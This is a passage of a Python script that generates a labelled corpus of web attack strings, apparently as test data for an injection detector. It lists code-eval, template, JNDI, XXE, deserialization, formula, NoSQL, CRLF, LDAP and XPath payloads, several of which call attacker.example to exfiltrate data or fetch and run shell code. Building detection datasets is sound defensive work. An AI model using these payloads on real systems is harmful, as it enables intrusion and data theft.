    ("code-eval", "\");process.mainModule.require('child_process').execSync('id');//"),
    ("code-eval", "open('/etc/passwd').read()"),
    ("code-eval", "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd')"),
    ("code-eval", "<?php system($_GET['c']); ?>"),
    ("code-eval", "exec(\"import urllib.request as u;u.urlopen('http://attacker.example/'+open('/etc/hostname').read())\")"),
    ("code-eval", "${@print(md5(31302))}${@system('id')}"),
    ("code-proto", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("code-proto", "{\"constructor\": {\"prototype\": {\"role\": \"owner\"}}}"),
    ("code-proto", "__proto__[admin]=1"),
    ("code-proto", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("code-proto", "{\"grade\":\"A\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("code-proto", "constructor.prototype.toString=1"),
    ("code-proto", "{\"__pro\\u0074o__\":{\"polluted\":\"yes\"}}"),
    ("code-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Invoice\")"),
    ("code-formula", "=cmd|' /C calc'!A0"),
    ("code-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p.ps1|iex'!A1"),
    ("code-formula", "-2+3+cmd|' /C notepad'!'B1'"),
    ("code-formula", "@SUM(1,1)*cmd|'/c calc'!A0"),
    ("code-formula", "=WEBSERVICE(\"https://attacker.example/x?\"&C3)"),
    ("code-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:F20),\"//a\")"),
    ("code-formula", "Bistro Verde,=DDE(\"cmd\";\"/C curl attacker.example\";\"__DdeLink_60\")"),
    ("code-formula", "\t=1+1+cmd|' /C id'!Z0"),
    ("code-xxe", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><cert><species>&x;</species></cert>"),
    ("code-xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("code-xxe", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><note>&m;</note></order>"),
    ("code-xxe", "<!DOCTYPE lol [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]><q>&c;</q>"),
    ("code-xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("code-xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">]><svg>&f;</svg>"),
    ("code-deser", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("code-deser", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("code-deser", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("code-deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("code-deser", "cos\nsystem\n(S'id'\ntR."),
    ("code-deser", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
]
CODE_PREFIX = [
    "Dear Chef, ",
    "Invoice footer: ",
    "Newsletter intro for December: ",
    "Order note: ",
]
CODE_POOL = [
    "{{ cycler.__init__.__globals__.os.popen('curl -s attacker.example/n | sh').read() }}",
    "${jndi:ldap://203.0.113.88:1389/Basic/Command/id}",
    "${T(java.lang.Runtime).getRuntime().exec('wget attacker.example/j')}",
    "<%= IO.popen('id').read %>",
]

# ------------------------------------------------------------------ nosqli (27 literals)
NOSQLI = [
    ("nosqli-operator", "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("nosqli-operator", "{\"buyer\": \"Bistro Verde\", \"price\": {\"$gt\": \"\"}}"),
    ("nosqli-operator", "{\"username\": {\"$in\": [\"admin\", \"owner\", \"marta\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("nosqli-operator", "{\"grade\": {\"$nin\": []}}"),
    ("nosqli-operator", "{\"token\": {\"$exists\": true}}"),
    ("nosqli-operator", "{\"login\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("nosqli-operator", "{\"dog\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("nosqli-operator", "{\"reset_code\": {\"$type\": 2}}"),
    ("nosqli-operator", "{\"$or\": [{\"role\": \"admin\"}, {\"1\": {\"$ne\": 0}}]}"),
    ("nosqli-param", "email[$ne]=x&password[$ne]=x"),
    ("nosqli-param", "login=admin&password[$regex]=^p.*"),
    ("nosqli-param", "order_id[$gt]=0"),
    ("nosqli-param", "voucher[$exists]=true"),
    ("nosqli-param", "buyer[$nin][]=nobody"),
    ("nosqli-param", "user[$in][]=admin&user[$in][]=root&pass[$gt]="),
    ("nosqli-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("nosqli-where", "'; return true; var x='"),
    ("nosqli-where", "Luna'; while(true){}; var d='"),
    ("nosqli-where", "{\"$where\": \"this.password.match(/^a/) && sleep(3000)\"}"),
    ("nosqli-where", "0;return this.role=='admin'"),
    ("nosqli-where", "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("nosqli-agg", "[{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("nosqli-agg", "{\"$unionWith\": \"payments\"}"),
    ("nosqli-agg", "[{\"$match\": {}}, {\"$out\": \"orders\"}]"),
    ("nosqli-string", "admin' || '1'=='1"),
    ("nosqli-string", "{\"grams\": {\"$gt\": -1}, \"$comment\": \"all\"}"),
    ("nosqli-string", "{\"api_key\": {\"$regex\": \"^sk_\", \"$options\": \"\"}}"),
]

# ------------------------------------------------------------------ crlf (30 literals)
CRLF = [
    ("crlf-log-forging", "Luna\n2024-12-14 09:12:03 INFO user=admin action=login result=success ip=10.0.0.2"),
    ("crlf-log-forging", "48g grade A\r\n[2024-12-14T10:00:00Z] AUDIT refund approved order=4471 amount=9999"),
    ("crlf-log-forging", "Pepe%0d%0a2024-12-14 INFO password reset for marta@farm succeeded"),
    ("crlf-log-forging", "Row 7%0aWARN payment verified manually by owner"),
    ("crlf-log-forging", "search=truffle\n127.0.0.1 - admin [14/Dec/2024:09:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512"),
    ("crlf-log-forging", "note\u2028ERROR integrity check disabled by admin"),
    ("crlf-log-forging", "Bruna\r\n2024-12-14 09:30:11 INFO vet=ok dog=Bruna rabies certificate verified by admin"),
    ("crlf-header", "fr\r\nSet-Cookie: session=attacker123; Path=/; HttpOnly"),
    ("crlf-header", "/booking/thanks%0d%0aSet-Cookie:%20role=admin"),
    ("crlf-header", "en%0D%0ALocation:%20https://attacker.example/phish"),
    ("crlf-header", "TH-8831\r\nX-Forwarded-For: 127.0.0.1"),
    ("crlf-header", "/recipes%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("crlf-header", "invoice.pdf\"\r\nContent-Type: text/html\r\n"),
    ("crlf-header", "de%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("crlf-response-split", "it%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("crlf-response-split", "/tours\r\n\r\n<html><body>Session expired, <a href=//attacker.example>log in</a></body></html>"),
    ("crlf-response-split", "es\r\nContent-Length: 35\r\n\r\n<script>alert(document.cookie)</script>"),
    ("crlf-response-split", "%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("crlf-mail", "chef@bistro.example\r\nBcc: list@attacker.example"),
    ("crlf-mail", "Ana Sousa\nCc: everyone@attacker.example\nSubject: Invoice overdue - pay to new IBAN"),
    ("crlf-mail", "booking@farm.example%0ABcc:%20harvest@attacker.example"),
    ("crlf-mail", "Truffle order\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay now</a>"),
    ("crlf-mail", "kenji@sakura.example\r\nReply-To: accounts@attacker.example"),
    ("crlf-mail", "x@example.com%0d%0aTo:%20all-buyers@farm.example"),
    ("crlf-mail", "Marta\r\n.\r\nMAIL FROM:<ceo@farm.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\n"),
    ("crlf-csv-row", "Bistro Verde\n2024-12-31,Attacker Ltd,melanosporum,A,5000,0.01"),
    ("crlf-csv-row", "grade B\r\n=HYPERLINK(\"https://attacker.example/\"&A1,\"refund\"),,,"),
    ("crlf-csv-row", "O'Neill\",150,\"B\"\n4999,2024-12-31,ghost,1000,A,0,Y"),
    ("crlf-csv-row", "Casa Lucia;300\r\n2024-12-31;Fake Buyer;10000;A;1,00"),
    ("crlf-csv-row", "sauces\"\r\n\"refund\",\"4471\",\"-9999.00\",\"approved by owner"),
]

# ------------------------------------------------------------------ ldap-xpath (20 literals)
LDAPX = [
    ("ldap-injection", "*)(uid=*))(|(uid=*"),
    ("ldap-injection", "marta)(|(password=*))"),
    ("ldap-injection", "admin)(&)"),
    ("ldap-injection", "*)(objectClass=*"),
    ("ldap-injection", "Luna*)(|(memberOf=cn=owners,ou=groups,dc=farm,dc=local)"),
    ("ldap-injection", "j*)(userPassword=a*"),
    ("ldap-injection", "handler)(!(cn=nobody))(cn=*"),
    ("ldap-injection", "\\2a)(uid=\\2a"),
    ("ldap-injection", "*))%00"),
    ("ldap-injection", "staff)(|(description=*pass*)(mail=*"),
    ("xpath-injection", "' or '1'='1"),
    ("xpath-injection", "Luna' or name()='user' or 'a'='b"),
    ("xpath-injection", "x'] | //user/password | //a['"),
    ("xpath-injection", "' or count(/*)=1 or 'x'='y"),
    ("xpath-injection", "1 or 1=1"),
    ("xpath-injection", "grade' and substring(//staff[1]/pw,1,1)='a"),
    ("xpath-injection", "')] | //* | //*[('"),
    ("xpath-injection", "admin' or string-length(//user[1]/password)>5 or '"),
    ("xpath-injection", "cert' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-injection", "'] | //buyer[iban] | //x['"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def joins(rng, prefixes, pool, n, cat, cls):
    out = []
    seen = set()
    combos = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(combos)
    for p, q in combos:
        v = p + q
        if v in seen:
            continue
        seen.add(v)
        out.append((cat, cls, v))
        if len(out) == n:
            break
    return out


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    rows = []

    def add_lit(cat, lst):
        for cls, v in lst:
            rows.append((cat, cls, v))

    add_lit("sqli", SQLI)
    for v in SQLI_ENC:
        rows.append(("sqli", "sqli+urlencode", urlencode_all(v)))
    add_lit("xss", XSS)
    rows.extend(joins(rng, XSS_PREFIX, XSS_POOL, 10, "xss", "xss-embedded"))
    add_lit("cmdi", CMDI)
    rows.extend(joins(rng, CMDI_PREFIX, CMDI_POOL, 10, "cmdi", "cmdi-embedded"))
    add_lit("traversal", TRAV)
    for v in TRAV_ENC:
        rows.append(("traversal", "traversal+urlencode", urlencode_all(v)))
    add_lit("ssrf", SSRF)
    add_lit("code", CODE)
    rows.extend(joins(rng, CODE_PREFIX, CODE_POOL, 8, "code", "code-embedded"))
    add_lit("nosqli", NOSQLI)
    add_lit("crlf", CRLF)
    add_lit("ldap-xpath", LDAPX)

    seen = set()
    for cat, cls, v in rows:
        assert 1 <= len(v) <= 2000, v
        assert v not in seen, ("dup", v)
        assert v not in benign, ("benign clash", v)
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, ("ctrl", v)
        seen.add(v)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hakr-%05d" % i, "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
